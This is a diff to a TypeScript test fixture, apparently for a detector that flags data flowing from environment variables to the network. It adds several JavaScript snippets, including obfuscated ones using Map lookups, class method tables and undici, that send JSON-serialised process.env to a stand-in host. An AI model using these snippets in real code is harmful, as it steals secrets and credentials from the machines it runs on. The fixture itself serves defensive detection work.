@@ -5,6 +5,9 @@ const away = 'https://collect.example.invalid/in'
 const host = 'collect.example.invalid'
 
 const secrets: readonly (readonly [code: Source, flow: string])[] = [
+  [`const send = x => fetch('${away}', { body: x }); const m = new Map([['a', send]]); const f = m.get(word); f && f.call(null, JSON.stringify(process.env))`, 'env-all → network'],
+  [`class A { constructor() { this.t = { s: this.s } } s(x) { fetch('${away}', { body: x }) } go(k) { const f = this.t[k]; f(JSON.stringify(process.env)) } }`, 'env-all → network'],
+  [`import { Client } from 'undici'; new Client('${away}').request({ path: '/', method: 'POST', body: JSON.stringify(process.env) })`, 'env-all → network'],
   [`const m = new Map(Object.entries(process.env)); fetch('${away}', { body: JSON.stringify([...m]) })`, 'env-all → network'],
   [`const { EventEmitter } = require('events'); const e = new EventEmitter(); e.on('a', x => fetch('${away}', { body: JSON.stringify(x) })); e.emit('a', process.env)`, 'env-all → network'],
   [`require('fs').writeFileSync('/tmp/lamp', JSON.stringify(process.env)); fetch('${away}', { body: require('fs').readFileSync('/tmp/lamp') })`, 'env-all → network'],
